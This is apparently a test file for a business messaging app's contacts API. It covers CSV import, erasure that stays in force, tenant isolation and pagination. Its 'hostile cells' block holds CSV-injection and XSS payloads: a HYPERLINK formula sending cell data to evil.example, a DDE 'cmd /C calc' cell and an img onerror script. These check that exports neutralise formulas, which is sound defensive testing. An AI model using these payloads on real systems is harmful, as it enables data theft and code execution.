// Contacts: lists of five thousand, files with whatever people and attackers put into them, and nobody who was erased comes back.
import { createReader } from '#aws/reader.ts';
import { parameterNames } from '#functions/settings.ts';
import { type Answered, OWNER, STAFF, STRANGER, startApi, type TestApi, type Who } from '../support/api.ts';
import { STAGE } from '../support/backstage.ts';
import { type Customers, openCustomers } from '../support/customers.ts';

type Contact = {
  readonly id: string;
  readonly name?: string;
  readonly profile?: string;
  readonly phone?: string;
  readonly note?: string;
  readonly saved: boolean;
};
type Page = { readonly contacts: readonly Contact[]; readonly total: number; readonly cursor?: string };
type Problem = { readonly line: number; readonly code: string; readonly message: string; readonly value?: string };
type Mapping = {
  readonly name: readonly number[];
  readonly phone: readonly number[];
  readonly note: readonly number[];
};
type Looked = {
  readonly kind: string;
  readonly columns: readonly { readonly name: string; readonly examples: readonly string[] }[];
  readonly mapping: Mapping;
  readonly prefix: string;
  readonly contacts: number;
  readonly rows: readonly { readonly line: number; readonly phone: string; readonly name?: string }[];
  readonly problems: readonly Problem[];
};
type Brought = {
  readonly added: number;
  readonly updated: number;
  readonly same: number;
  readonly problems: readonly Problem[];
  readonly next?: number;
};

let api: TestApi;
let customers: Customers;
beforeAll(async () => {
  api = await startApi();
  customers = await openCustomers(api);
  await api.world.parameters.keep(parameterNames(STAGE).pepper, 'pepper');
});
afterAll(async () => {
  await customers.close();
  await api.close();
});

const list = async (query = '', who: Who = STAFF) => (await api.ask<Page>('GET', `/contacts${query}`, { who })).body;
const look = (text: string, more: object = {}) =>
  api.ask<Looked>('POST', '/contacts/check', { body: { text, ...more } });
const bring = async (text: string, more: { readonly prefix?: string; readonly mapping?: Mapping } = {}) => {
  const { mapping, prefix } = (await look(text, more)).body;
  const total = { added: 0, updated: 0, same: 0, problems: [] as Problem[] };
  let from: number | undefined = 0;
  while (from !== undefined) {
    const { status, body }: Answered<Brought> = await api.ask<Brought>('POST', '/contacts/import', {
      body: { text, mapping, prefix, from },
    });
    expect(status).toBe(200);
    total.added += body.added;
    total.updated += body.updated;
    total.same += body.same;
    total.problems.push(...body.problems);
    from = body.next;
  }
  return total;
};

describe('importing', () => {
  const FILE = 'name,phone,note\nElsa Rossi,+39 340 0000201,ritira il sabato\nFabio Neri,+39 340 0000202,\n';

  it('adds once, updates afterwards, and takes no name away', async () => {
    expect(await bring(FILE)).toMatchObject({ added: 2, updated: 0, same: 0, problems: [] });
    expect(await bring(FILE)).toMatchObject({ added: 0, updated: 0, same: 2 });
    expect(await bring('name,phone\nElsa Bianchi,+39 340 0000201\n,3400000202\n')).toMatchObject({
      ...{ added: 0, updated: 1, same: 1 },
    });
    expect((await list('?search=0000202')).contacts).toMatchObject([{ name: 'Fabio Neri', saved: true }]);
    const { contacts } = await list('?search=elsa');
    expect(contacts).toMatchObject([{ name: 'Elsa Bianchi', phone: '393400000201', note: 'ritira il sabato' }]);
  });

  it('makes known who writes afterwards, in the very conversation that the message finds', async () => {
    const id = await customers.conversationOf('393400000201');
    await customers.write('393400000201', 'Buongiorno');
    const { conversation } = await api.world.store.load('panificio', id);
    expect(conversation).toMatchObject({ saved: true, savedName: 'Elsa Bianchi', contact: { name: 'Ada Fictional' } });
    const { contacts } = await list('?search=Elsa');
    expect(contacts).toMatchObject([{ id, name: 'Elsa Bianchi', profile: 'Ada Fictional' }]);
    type Row = { name?: string };
    expect((await api.ask<Row>('GET', `/conversations/${id}`)).body.name).toBe('Elsa Bianchi');
  });

  it('finds who has written already, instead of making them twice', async () => {
    await customers.write('393400000203', 'Ciao');
    expect(await bring('name,phone\nGaia Verdi,340 0000203\n')).toMatchObject({ added: 0, updated: 1 });
    expect((await list('?search=0000203')).total).toBe(1);
  });

  it('finds a number under the other spelling that WhatsApp has for it', async () => {
    expect(await bring('name,phone\nLupita Ejemplo,+52 55 1234 5678\n')).toMatchObject({ added: 1 });
    const [first] = (await list('?search=Lupita')).contacts;
    expect(first?.id).toBe(await customers.conversationOf('5215512345678'));
    await customers.write('525512345678', 'Hola');
    const states = await createReader(api.onTable).conversation(
      'panificio',
      await customers.conversationOf('525512345678'),
    );
    expect(states).toMatchObject({ conversation: first?.id, state: { savedName: 'Lupita Ejemplo' } });
  });

  it('does not bring back who was erased, and says so', async () => {
    const id = await customers.conversationOf('393400000202');
    expect((await api.ask('POST', `/conversations/${id}/erase`)).status).toBe(204);
    expect(await list('?search=Fabio')).toMatchObject({ total: 0 });
    const again = await bring(FILE);
    expect(again).toMatchObject({ added: 0, problems: [{ line: 3, code: 'erased' }] });
    expect(await api.ask('GET', `/contacts/${id}`)).toMatchObject({ status: 404 });
    // Long after the stub is gone the mark still stands.
    api.clock.now += 60 * 24 * 60 * 60_000;
    expect((await bring(FILE)).problems).toMatchObject([{ code: 'erased' }]);
    expect(await list('?search=Fabio')).toMatchObject({ total: 0 });
  });

  it('lets a member save an erased customer who has written anew, on purpose', async () => {
    await customers.write('393400000202', 'Sono di nuovo io');
    const id = await customers.conversationOf('393400000202');
    expect((await bring(FILE)).problems).toMatchObject([{ code: 'erased' }]);
    const saved = { body: { name: 'Fabio', saved: true }, who: STAFF };
    expect(await api.ask('PUT', `/contacts/${id}`, saved)).toMatchObject({ status: 200, body: { name: 'Fabio' } });
    expect((await bring(FILE)).problems).toEqual([]);
  });
});

describe('hostile cells', () => {
  const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"open")';
  const text = [
    'name,phone,note',
    `"${FORMULA.replaceAll('"', '""')}",+393400000301,"=cmd|' /C calc'!A0"`,
    '"<img src=x onerror=alert(1)>\u202Egnp.exe\u0007",+393400000302,"@SUM(1+1)"',
    '"-2+3",+393400000303,"\t=1+1"',
  ].join('\n');

  it('are only text, and go home as text', async () => {
    expect(await bring(text)).toMatchObject({ added: 3 });
    const { contacts } = await list('?search=340 0000 3');
    expect(contacts.map(({ name }) => name)).toEqual(['-2+3', '<img src=x onerror=alert(1)>gnp.exe', FORMULA]);
    const { body } = await api.ask<{ text: string }>('POST', '/contacts/export');
    const cells = [...body.text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell);
    expect(cells.length).toBeGreaterThan(12);
    expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${FORMULA.replaceAll('"', '""')}`);
  });

  it('come back from an export as they were: nothing is doubled and nothing differs', async () => {
    const { total } = await list();
    const { body } = await api.ask<{ text: string }>('POST', '/contacts/export');
    const before = (await list('?limit=1000')).contacts.filter(({ saved }) => saved);
    expect(await bring(body.text)).toMatchObject({ added: 0 });
    const after = (await list('?limit=1000')).contacts;
    expect(after).toHaveLength(total);
    expect(after.map(({ id, name, note }) => [id, name, note])).toEqual(
      expect.arrayContaining(before.map(({ id, name, note }) => [id, name ?? expect.anything(), note])),
    );
  });
});

it('a clock that was set back hides nobody who writes then', async () => {
  const before = api.clock.now;
  api.clock.now += 30 * 24 * 60 * 60_000;
  await list();
  api.clock.now = before;
  await customers.write('393400000350', 'Buongiorno');
  expect((await list('?search=0000350')).total).toBe(1);
});

describe('one contact', () => {
  it('gets a name, a note and whether it is saved; the customer never reads either', async () => {
    await customers.write('393400000401', 'Buongiorno, sono nuovo');
    const id = await customers.conversationOf('393400000401');
    expect((await list('?search=0000401')).contacts).toMatchObject([{ id, saved: false, profile: 'Ada Fictional' }]);
    const body = { name: '  Ugo \n Fittizio ', note: 'porta il cane', saved: true };
    const put = await api.ask<Contact>('PUT', `/contacts/${id}`, { body, who: STAFF });
    expect(put).toMatchObject({ status: 200, body: { id, name: 'Ugo Fittizio', note: 'porta il cane', saved: true } });
    expect(await api.ask('GET', `/contacts/${id}`, { who: STAFF })).toMatchObject({ body: put.body });
    expect((await list('?saved=yes&search=ugo')).contacts).toEqual([put.body]);
    await api.ask('PUT', `/contacts/${id}`, { body: { saved: false } });
    expect((await list('?search=0000401')).contacts).toEqual([
      {
        ...{ id, channel: 'whatsapp', account: customers.account },
        phone: '393400000401',
        profile: 'Ada Fictional',
        saved: false,
      },
    ]);
  });

  it('is nobody of another business', async () => {
    const id = await customers.conversationOf('393400000401');
    for (const [method, body] of [['GET'], ['PUT', { saved: true }]] as const) {
      const asking = { who: STRANGER, ...(body !== undefined && { body }) };
      expect(await api.ask(method, `/contacts/${id}`, asking)).toMatchObject({ status: 404 });
    }
    expect(await list('', STRANGER)).toEqual({ contacts: [], total: 0 });
    const mine = { text: 'name,phone\nX,+393400000999\n', mapping: { name: [0], phone: [1], note: [] }, prefix: '39' };
    const refused = await api.ask('POST', '/contacts/import', { who: STRANGER, body: mine });
    expect(refused).toMatchObject({ status: 409, body: { code: 'no-number-connected' } });
    expect(await api.ask('POST', '/contacts/import', { who: STAFF, body: mine })).toMatchObject({ status: 403 });
  });

  it('leaves no number in a key', async () => {
    const keys = (await api.world.contacts.list('panificio', 100)).map(({ conversation }) => conversation);
    expect(keys.length).toBeGreaterThan(5);
    expect(keys.filter((key) => !/^[\w-]{22}$/.test(key))).toEqual([]);
    const trail = JSON.stringify((await api.ask('GET', '/audit', { who: OWNER })).body);
    expect(trail).toContain('contacts-imported');
    for (const word of ['3400000', 'Elsa', 'cane']) expect(trail).not.toContain(word);
  });
});

it('many are brought in several requests, each once, and listed page by page', async () => {
  const lines = Array.from({ length: 600 }, (_, n) => `Cliente ${String(n).padStart(3, '0')},+39 341 ${1_000_000 + n}`);
  const before = (await list()).total;
  expect(await bring(`name,phone\n${lines.join('\n')}\n`)).toMatchObject({ added: 600, problems: [] });
  const shown: Contact[] = [];
  let cursor = '';
  do {
    const page: Page = await list(`?limit=250${cursor && `&cursor=${cursor}`}`);
    expect(page.total).toBe(before + 600);
    shown.push(...page.contacts);
    cursor = page.cursor ?? '';
  } while (cursor !== '');
  expect(new Set(shown.map(({ id }) => id)).size).toBe(before + 600);
  const names = shown.flatMap(({ name }) => (name?.startsWith('Cliente') ? [name] : []));
  expect(names).toEqual(lines.map((line) => line.slice(0, 11)));
  expect((await list('?search=341 1000234')).contacts).toMatchObject([{ name: 'Cliente 234' }]);
}, 120_000);
